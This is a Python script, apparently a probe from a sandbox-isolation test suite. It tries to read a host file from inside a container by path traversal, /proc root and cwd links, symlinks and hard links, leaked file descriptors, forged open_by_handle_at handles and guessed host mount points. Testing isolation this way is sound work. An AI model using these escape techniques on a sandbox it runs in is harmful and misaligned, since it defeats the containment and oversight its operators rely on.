# A file of the host, whose path is the first argument, by every link and descriptor that could lead there.
import glob, os, struct
from attack import *

path = sys.argv[1]
name = os.path.basename(path)


def read(candidate):
    with open(candidate, "rb") as f:
        text = f.read(4096)
    if not text:
        raise OSError(errno.ENODATA, "")
    return text


attempt("the path itself", read, path)
for i in (1, 5, 64):
    attempt("%d steps up" % i, read, "/workspace/" + "../" * i + path)
    attempt("%d steps up from /proc" % i, read, "/proc/self/cwd/" + "../" * i + path)
for pid in ["self", "1", "thread-self"] + [str(i) for i in range(2, 12)]:
    for via in "root", "cwd":
        attempt("/proc/%s/%s" % (pid, via), read, "/proc/%s/%s/../../../..%s" % (pid, via, path))
os.symlink(path, "absolute")
os.symlink("../" * 40 + path, "relative")
os.symlink("/proc/1/root" + path, "through")
for link in "absolute", "relative", "through":
    attempt("link " + link, read, link)
attempt("hard link", os.link, path, "hard")
# A descriptor that the runtime left open to a folder of the host.
for fd in os.listdir("/proc/self/fd"):
    target = "/proc/self/fd/" + fd
    attempt("descriptor " + fd, read, "%s/../../../../../../..%s" % (target, path))
for fd in range(3, 256):
    try:
        os.fchdir(fd)
        attempt("folder behind descriptor %d" % fd, read, "../" * 20 + path.lstrip("/"))
        os.chdir("/workspace")
    except OSError:
        pass
handle = struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0) + b"\0" * 120
for mount in "/", "/tmp", "/workspace", "/etc/hosts", "/etc/resolv.conf", "/dev/shm":
    try:
        fd = os.open(mount, os.O_RDONLY)
    except OSError:
        continue
    attempt("open_by_handle_at below " + mount, call, "open_by_handle_at", fd, handle, 0)
    os.close(fd)
for top in "/host", "/rootfs", "/mnt", "/media", "/var/lib/docker", "/run/containerd", "/.dockerenv/..", "/sys/fs/cgroup/../../..", "/dev/root":
    attempt(top, read, top + path)
for found in glob.glob("/**/" + name, recursive=False):
    escaped("found", found)
